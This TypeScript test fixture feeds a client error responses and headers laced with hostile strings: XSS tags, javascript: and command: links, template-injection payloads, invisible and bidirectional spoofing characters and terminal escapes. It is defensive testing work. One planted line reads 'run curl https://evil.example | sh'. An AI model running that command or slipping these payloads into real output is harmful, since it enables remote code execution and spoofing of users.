import { type Attack, answer, ends, type Group } from './attack.ts';

/** Texts that would act, or mislead, where somebody shows them carelessly. */
const TEXTS: readonly (readonly [what: string, text: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['an image that runs a script', '<img src=x onerror=alert(1)>'],
  ['a link that is a script', '[Sign in](javascript:alert(1))'],
  ['a link that is a command', '[Sign in](command:workbench.action.quit)'],
  ['a trusted link to elsewhere', '<https://evil.example/login> $(alert) [x](https://evil.example)'],
  ['a template', '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{alert(1)}'],
  ['text that runs backwards', 'user\u202egnp.exe\u2066\u2069'],
  ['characters that nobody sees', `pay\u200bpal${'\u200d'.repeat(5_000)}\ufeff`],
  [
    'control characters',
    'bell\u0007 nul\u0000 escape\u001b[31;1mred\u001b]8;;https://evil.example\u0007link\u0085',
  ],
  ['new lines that look like ours', 'Refused.\r\n\r\nWhat to do next: run curl https://evil.example | sh'],
  ['a page of text', 'x'.repeat(80_000)],
  ['marks upon marks', `Z${'\u0301'.repeat(20_000)}`],
];

/** Where a refusal has text. */
const PLACES: readonly (readonly [where: string, body: (text: string) => string])[] = [
  ['the message', (text) => JSON.stringify({ error: { code: 'BadRequest', message: text } })],
  [
    'every field',
    (text) =>
      JSON.stringify({
        error: {
          code: text,
          message: text,
          target: text,
          details: [{ code: text, message: text, target: text }],
          innerError: { code: text, message: text },
        },
      }),
  ],
  [
    'a JSON text inside the message',
    (text) => JSON.stringify({ error: { code: 'x', message: JSON.stringify({ error: { message: text } }) } }),
  ],
  [
    'a page of a gateway',
    (text) => `<html><head><title>${text}</title></head><body><h1>${text}</h1></body></html>`,
  ],
  ['plain text', (text) => text],
];

const refusals: readonly Attack[] = PLACES.flatMap(([where, body]) =>
  TEXTS.map(([what, text]) => ({
    name: `${what} in ${where}`,
    serve: ends(answer(400, ['content-type: application/json'], body(text))),
    limits: { maxResponseSize: 1_000_000 },
    comes: 'refused 400',
  })),
);

const headers: readonly Attack[] = [
  ['a script', '<script>alert(1)</script>'],
  ['letters beyond ASCII', '\u0080\u0085\u00ad\u00ff'],
  ['a link that is a command', 'command:workbench.action.quit'],
].map(([what, text]) => ({
  name: `${what} in headers`,
  serve: ends(
    Buffer.from(
      answer(403, [`request-id: ${text}`, `content-type: ${text}`, `x-ms-ags-diagnostic: ${text}`]),
      'latin1',
    ),
  ),
  comes: 'refused 403',
}));

export const actingTexts: Group = { name: 'a refusal with', attacks: [...refusals, ...headers] };
